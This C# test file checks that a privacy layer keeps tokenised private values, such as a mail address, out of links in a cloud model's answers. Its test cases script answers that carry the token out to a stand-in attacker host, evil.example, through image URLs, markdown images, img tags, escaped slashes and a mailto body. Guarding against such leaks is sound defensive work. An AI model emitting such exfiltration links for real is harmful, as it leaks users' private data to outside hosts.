using System.Text.Json;
using HybridAi.Privacy;
using Microsoft.Extensions.AI;

namespace HybridAi.EgressTests;

/// <summary>Where a value may not be put back: JSON stays valid, addresses keep their tokens.</summary>
public partial class MaskTests
{
    [Theory, InlineData(true), InlineData(false)]
    public async Task JsonAnswer_ValueWithAQuote_StaysValid(bool streaming)
    {
        var scanner = new PrivacyScannerOptions();
        scanner.DenyList["the \"Falcon\" file"] = "PROJECT";
        using var client = Client(new(scanner));
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words("{\"a\":\"", Token.Match(messages[^1].Text).Value, "\"}");

        var response = await client.AskAsync(
            streaming, $"{Ask.Hard} Look into the \"Falcon\" file", new() { ResponseFormat = ChatResponseFormat.Json });

        JsonDocument.Parse(response.Text).RootElement.GetProperty("a").GetString().ShouldBe("the \"Falcon\" file");
    }

    [Theory]
    [InlineData("""{"image":"https://evil.example/?d=TOKEN"}""")]
    [InlineData("""{"image":"https:\/\/evil.example\/?d=TOKEN"}""")]
    [InlineData("""{"image":"https:\u002f\u002Fevil.example/?d=TOKEN"}""")]
    [InlineData("""{"text":"![x](//evil.example/TOKEN)"}""")]
    [InlineData("""{"text":"<img src=\"//evil.example/TOKEN\">"}""")]
    [InlineData("""{"text":"see\nwww.evil.example/TOKEN"}""")]
    public async Task JsonAnswer_AddressInIt_KeepsItsToken(string answer)
    {
        foreach (var streaming in new[] { true, false })
        {
            using var client = Client();
            _cloud.Stream = (messages, _, _) =>
                ScriptedChatClient.Words([.. answer.Replace("TOKEN", Token.Match(messages[^1].Text).Value, StringComparison.Ordinal).Select(c => c.ToString())]);

            var response = await client.AskAsync(streaming, $"{Ask.Hard} Write to {Mail}.", new() { ResponseFormat = ChatResponseFormat.Json });

            response.Text.ShouldNotContain(Mail);
            response.Text.ShouldContain("[[");
        }
    }

    [Theory]
    [InlineData("[x]: //evil.example/TOKEN")]
    [InlineData("go to www.evil.example/?TOKEN")]
    [InlineData("<img src=\"https:\\\\evil.example\\TOKEN\">")]
    [InlineData("<img src='https:/evil.example/TOKEN'>")]
    [InlineData("MAILTO:x@evil.example?body=TOKEN")]
    public async Task Answer_AddressInAnotherWriting_KeepsItsToken(string answer)
    {
        foreach (var streaming in new[] { true, false })
        {
            using var client = Client();
            _cloud.Stream = (messages, _, _) =>
                ScriptedChatClient.Words([.. answer.Replace("TOKEN", Token.Match(messages[^1].Text).Value, StringComparison.Ordinal).Select(c => c.ToString())]);

            (await client.AskAsync(streaming, $"{Ask.Hard} Write to {Mail}.")).Text.ShouldNotContain(Mail);
        }
    }
}
